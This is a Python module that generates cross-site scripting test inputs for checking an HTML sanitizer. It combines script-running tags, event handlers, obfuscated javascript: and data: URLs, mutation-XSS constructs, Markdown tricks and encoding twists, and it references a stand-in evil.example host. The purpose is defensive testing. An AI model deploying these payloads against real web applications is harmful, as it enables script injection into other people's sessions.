"""Text that tries to run: made by a grammar of the known families, the same for the same number and seed.

Families: elements that run or load, handlers, schemes and their spellings, encodings, text that mutates when it is parsed
twice, foreign content, broken nesting, constructs of Markdown, characters that look or vanish. Sources: the OWASP and
PortSwigger cheat sheets, DOMPurify's fixtures, and reports named in the specification of the sanitizer.
"""

import html
import random
from collections.abc import Callable
from collections.abc import Iterator
from urllib.parse import quote

CALL = "xssfired(1)"
"""What runs when something gets through; a page under test defines it."""

_CALLS = [CALL, f"top.{CALL}", "(0,xssfired)(1)", "xssfired`1`", "[1].map(xssfired)", "window['xssfired'](1)"]
_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onpointerrawupdate",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onbeforetoggle",
    "onscrollend",
    "ontransitionend",
    "onresize",
    "oncut",
    "onpageshow",
    "onhashchange",
    "oncontentvisibilityautostatechange",
    "onwheel",
]
_RUNNING = [
    "<script>{c}</script>",
    "<script src={u}></script>",
    "<script type=module>{c}</script>",
    "<svg><script>{c}</script></svg>",
    "<svg><script href={u} /></svg>",
    "<math><maction actiontype=statusline xlink:href={u}>x</maction></math>",
    "<img src=x {h}={c}>",
    "<img src={u}>",
    "<image src=x {h}={c}>",
    "<svg {h}={c}>",
    "<svg><animate {h}={c} attributeName=x dur=1s>",
    "<svg><a xlink:href={u}><text x=9 y=9>x</text></a></svg>",
    "<svg><set attributeName=href to={u}></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={c} /></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{c}</script>'></foreignObject></svg>",
    "<details open {h}={c}>x</details>",
    "<video {h}={c}><source onerror={c}></video>",
    "<audio src=x {h}={c}>",
    "<body {h}={c}>",
    "<iframe src={u}></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{c}&lt;/script&gt;'></iframe>",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<form action={u}><input type=submit><button formaction={u}>x</button></form>",
    "<input autofocus {h}={c}>",
    "<select autofocus {h}={c}><option>x</select>",
    "<a href={u}>x</a>",
    "<a href={u} {h}={c} style=animation-name:x>x</a>",
    "<b {h}={c} tabindex=1 autofocus>x</b>",
    "<p style='background:url({u})'>x</p>",
    "<blockquote cite={u}>x</blockquote>",
    "<base href={u}>",
    "<link rel=stylesheet href={u}>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<style>@import '{u}';</style>",
    "<style>*{{background:url({u})}}</style>",
    "<marquee onstart={c}>x</marquee>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x {h}={c}>'></noscript>",
    "<xss id=x {h}={c} tabindex=1>x</xss>",
    "<button popovertarget=x>y</button><p popover id=x onbeforetoggle={c}>",
    "<isindex action={u} type=image>",
    "<frameset {h}={c}><frame src={u}>",
]
_MUTATING = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 {h}={c}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 {h}={c}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src {h}={c}>",
    "<math><annotation-xml encoding='text/html'><style><img src=x {h}={c}></style></annotation-xml></math>",
    "<table><a href={u}><td><svg><desc><img src=x {h}={c}></table>",
    "<listing>&lt;img src=1 {h}={c}&gt;</listing>",
    "<xmp><p title='</xmp><img src=x {h}={c}>'></xmp>",
    "<textarea><img title='</textarea><img src=x {h}={c}>'></textarea>",
    "<title><a title='</title><img src=x {h}={c}>'></title>",
    "<select><style><img src=x {h}={c}></style></select>",
    "<![CDATA[<img src=x {h}={c}>]]>",
    "<svg><![CDATA[></svg><img src=x {h}={c}>]]>",
    "<!--><img src=x {h}={c}>-->",
    "<!--!> <img src=x {h}={c}> -->",
    "<? ><img src=x {h}={c}> ?>",
    "<//><img src=x {h}={c}>",
    "<p id='x`'><img src=`x`{h}={c}>",
    "<b><p></b><a><b></p></a><img src=x {h}={c}>",
    "<pre><code></pre></code><img src=x {h}={c}>",
    "<plaintext><img src=x {h}={c}>",
]
_MARKDOWN = [
    "[x]({u})",
    "[x](<{u}>)",
    "![x]({u})",
    "![x](x 'y' {h}={c})",
    "[x]: {u}\n\n[x]",
    "<{u}>",
    '[x](https://a.example/"{h}={c})',
    "[x](https://a.example/'><img src=x {h}={c}>)",
    "[<img src=x {h}={c}>](https://a.example/)",
    "`<img src=x {h}={c}>`",
    "```\n<img src=x {h}={c}>\n```",
    "```\n</code></pre><img src=x {h}={c}>\n```",
    "> <img src=x {h}={c}>",
    "**<img src=x {h}={c}>**",
    "*[x]({u})*",
    "_a_<a href={u}>_b_</a>",
    "\\<img src=x {h}={c}>",
    "[[gallery: <img src=x {h}={c}>]]",
    "- x\n\n    <script>{c}</script>",
    "&lt;script&gt;{c}&lt;/script&gt;",
]
_SHAPES = [*_RUNNING, *_MUTATING, *_MARKDOWN]

_SCHEMES: list[Callable[[str], str]] = [
    lambda call: f"javascript:{call}",
    lambda call: f"JaVaScRiPt:{call}",
    lambda call: f"java\tscript:{call}",
    lambda call: f"java\nscript:{call}",
    lambda call: f"\x01javascript:{call}",
    lambda call: f" javascript:{call}",
    lambda call: f"javascript&colon;{call}",
    lambda call: f"java&Tab;script:{call}",
    lambda call: f"&#106;avascript:{call}",
    lambda call: f"&#x6A&#x61vascript:{call}",
    lambda call: f"&#0000106avascript:{call}",
    lambda call: f"javascript://a.example/%0a{call}",
    lambda call: "javascript:123",
    lambda call: f"vbscript:{call}",
    lambda call: f"data:text/html,<script>parent.{call}</script>",
    lambda call: "data:text/html;base64,PHNjcmlwdD54c3NmaXJlZCgxKTwvc2NyaXB0Pg==",
    lambda call: f"data:image/svg+xml,<svg onload={call}>",
    lambda call: f"blob:{call}",
    lambda call: f"view-source:javascript:{call}",
    lambda call: f"feed:javascript:{call}",
    lambda call: f"jav\u200bascript:{call}",
    lambda call: f"\u2028javascript:{call}",
    lambda call: f"ｊavascript:{call}",
    lambda call: f"javaſcript:{call}",
    lambda call: f"//evil.example/{call}",
    lambda call: f"\\\\evil.example/{call}",
    lambda call: f"https:javascript:{call}",
    lambda call: f'https://a.example/"onmouseover="{call}',
    lambda call: f"http://a.example'onmouseover='{call}",
]
_BREAKERS = [
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</p>",
    "</blockquote>",
    "<svg>",
    "<math>",
    "<table>",
    "<select>",
    "<b><i><a href=/>",
    "<blockquote><p>",
    "<ul><li>",
    "<pre>",
    "**",
    "`",
    "> ",
    "\n\n",
    "```\n",
    "<a href='",
    '<a href="',
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "%0d%0a\r\nX: y\r\n\r\n",
    "</textarea ",
    "<!doctype html>",
]
_TWISTS: list[Callable[[str, random.Random], str]] = [
    lambda text, source: text,
    lambda text, source: (
        text.swapcase() if source.random() < 0.3 else text.upper().replace(CALL.upper(), CALL)
    ),
    lambda text, source: text.replace(" ", source.choice(["/", "\t", "\n", "\x0c", "\r", "/x/", "\xa0"])),
    lambda text, source: text.replace("=", source.choice([" = ", "=\n", '="\'"', "=`"]), 1),
    lambda text, source: text.replace(">", source.choice(["", " ", "/>", " x='>"]), 1),
    lambda text, source: text.replace(
        "<", source.choice(["<<", "<\x00", "< ", "&lt;<", "<b><", "＜", "<​"]), 1
    ),
    lambda text, source: f"{source.choice(_BREAKERS)}{text}",
    lambda text, source: f"{source.choice(_BREAKERS)}{text}{source.choice(_BREAKERS)}",
    lambda text, source: html.escape(text) if source.random() < 0.5 else html.escape(html.escape(text)),
    lambda text, source: quote(text),
    lambda text, source: "".join(f"&#{ord(one)};" if source.random() < 0.3 else one for one in text),
    lambda text, source: "".join(f"&#x{ord(one):x}" if source.random() < 0.1 else one for one in text),
    lambda text, source: text[: source.randrange(1, len(text) + 1)],
    lambda text, source: text * source.randrange(2, 4),
    lambda text, source: _insert(
        text, source, source.choice(["\x00", "\u200b", "\ufeff", "\u202e", "\xad", "\u0345", "\x1b"])
    ),
    lambda text, source: _insert(
        text, source, source.choice(["<", ">", '"', "'", "`", "<!--", "-->", "*", "_", "]]>", "\\"])
    ),
    lambda text, source: text.replace("script", "scr<script>ipt", 1),
    lambda text, source: f"+ADw-{text}+AD4-",
    lambda text, source: text.replace("i", source.choice(["ı", "İ", "і"])),
]


def _insert(text: str, source: random.Random, what: str) -> str:
    at = source.randrange(len(text) + 1)
    return text[:at] + what + text[at:]


def inputs(count: int, seed: int = 4) -> Iterator[str]:
    """Yield `count` different inputs."""
    source = random.Random(seed)
    seen: set[str] = set()
    while len(seen) < count:
        call = source.choice(_CALLS)
        address = source.choice(_SCHEMES)(call)
        shape = source.choice(_SHAPES)
        text = shape.format(c=call, u=address, h=source.choice(_HANDLERS))
        for _ in range(source.randrange(3)):
            text = source.choice(_TWISTS)(text, source)
        if source.random() < 0.15:
            other = source.choice(_SHAPES).format(c=call, u=address, h=source.choice(_HANDLERS))
            text = text + other if source.random() < 0.5 else _insert(text, source, other)
        text = text[:2_000]
        if text not in seen:
            seen.add(text)
            yield text
